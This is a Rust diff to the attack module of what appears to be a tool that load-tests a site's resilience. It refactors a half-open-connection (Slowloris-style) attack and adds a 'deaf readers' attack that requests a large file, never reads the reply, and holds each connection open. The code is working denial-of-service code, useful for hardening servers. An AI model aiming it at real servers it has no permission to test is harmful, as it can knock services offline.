@@ -1,6 +1,6 @@
 //! The attacks. Each was once enough by itself to stop the site or to fill its memory.
 
-use std::{fmt, sync::Arc, time::Duration};
+use std::{fmt, io, sync::Arc, time::Duration};
 
 use tokio::{
     io::{AsyncReadExt, AsyncWriteExt},
@@ -11,7 +11,7 @@ use tokio::{
 use tokio_util::sync::CancellationToken;
 
 use crate::{
-    Options,
+    LARGE_FILE, Options,
     report::Tally,
     visitors::{Browser, Site, at_rate, reason},
 };
@@ -28,10 +28,12 @@ pub enum Attack {
     CraftedSignUps,
     Refreshes,
     HalfOpenConnections,
+    DeafReaders,
 }
 
 impl Attack {
-    pub const ALL: [Self; 4] = [Self::WrongSignIns, Self::CraftedSignUps, Self::Refreshes, Self::HalfOpenConnections];
+    pub const ALL: [Self; 5] =
+        [Self::WrongSignIns, Self::CraftedSignUps, Self::Refreshes, Self::HalfOpenConnections, Self::DeafReaders];
 
     /// Attacks until it is stopped.
     pub fn begin(
@@ -61,7 +63,10 @@ impl Attack {
             Self::Refreshes => tokio::spawn(repeat(options.refreshes, stop, move |_| {
                 greedy.send(site.get("/account?from=portal", greedy.address()), true)
             })),
-            Self::HalfOpenConnections => tokio::spawn(half_open(options.connections, site, stop)),
+            Self::HalfOpenConnections => {
+                tokio::spawn(keep_open(options.connections, stop, move || half_open(site.clone())))
+            }
+            Self::DeafReaders => tokio::spawn(keep_open(options.deaf, stop, move || deaf(site.clone()))),
         }
     }
 }
@@ -73,6 +78,7 @@ impl fmt::Display for Attack {
             Self::CraftedSignUps => "crafted sign-ups",
             Self::Refreshes => "refreshes",
             Self::HalfOpenConnections => "half-open connections",
+            Self::DeafReaders => "deaf readers",
         })
     }
 }
@@ -102,15 +108,19 @@ async fn repeat(a_second: u32, stop: CancellationToken, request: impl Fn(usize) 
     tally(outcomes.await)
 }
 
-/// Keeps so many connections open, each with half of a request; one that is closed is opened anew.
-async fn half_open(connections: u32, site: Site, stop: CancellationToken) -> Tally {
+/// Keeps so many connections open; one that is closed is opened anew.
+async fn keep_open<F: Future<Output = io::Result<()>> + Send + 'static>(
+    connections: u32,
+    stop: CancellationToken,
+    hold: impl Fn() -> F + Clone + Send + 'static,
+) -> Tally {
     let mut holders = JoinSet::new();
     for _ in 0..connections {
-        let (site, stop) = (site.clone(), stop.clone());
+        let (hold, stop) = (hold.clone(), stop.clone());
         holders.spawn(async move {
             let mut outcomes = Vec::new();
             while !stop.is_cancelled() {
-                outcomes.push(match stop.run_until_cancelled(hold(&site)).await {
+                outcomes.push(match stop.run_until_cancelled(hold()).await {
                     Some(Ok(())) => "closed by the server",
                     Some(Err(_)) => "no connection",
                     None => "open to the end",
@@ -123,16 +133,35 @@ async fn half_open(connections: u32, site: Site, stop: CancellationToken) -> Tal
 }
 
 /// Sends half of a request and waits until the server has enough of it.
-async fn hold(site: &Site) -> std::io::Result<()> {
-    let connecting = tokio::time::timeout(Duration::from_secs(5), TcpStream::connect(site.address())).await;
-    let Ok(Ok(mut connection)) = connecting else {
-        tokio::time::sleep(Duration::from_secs(1)).await;
-        return Err(std::io::ErrorKind::ConnectionRefused.into());
-    };
+async fn half_open(site: Site) -> io::Result<()> {
+    let mut connection = connect(&site).await?;
     connection.write_all(b"GET / HTTP/1.1\r\nhost: site\r\nx-half: ").await?;
     // A broken connection is a closed one.
     while connection.read(&mut [0; 512]).await.is_ok_and(|read| read > 0) {}
     Ok(())
+}
+
+/// Asks for more than fits on the way, and never reads of it.
+async fn deaf(site: Site) -> io::Result<()> {
+    let mut connection = connect(&site).await?;
+    let request = format!("GET /{LARGE_FILE} HTTP/1.1\r\nhost: site\r\n\r\n");
+    connection.write_all(request.as_bytes()).await?;
+    // Whoever does not read learns only by writing that nobody is there any more.
+    while connection.write_all(b"\r\n").await.is_ok() {
+        tokio::time::sleep(Duration::from_secs(1)).await;
+    }
+    Ok(())
+}
+
+async fn connect(site: &Site) -> io::Result<TcpStream> {
+    let connecting = tokio::time::timeout(Duration::from_secs(5), TcpStream::connect(site.address())).await;
+    match connecting {
+        Ok(Ok(connection)) => Ok(connection),
+        _ => {
+            tokio::time::sleep(Duration::from_secs(1)).await;
+            Err(io::ErrorKind::ConnectionRefused.into())
+        }
+    }
 }
 
 fn tally(outcomes: impl IntoIterator<Item = impl Into<String>>) -> Tally {
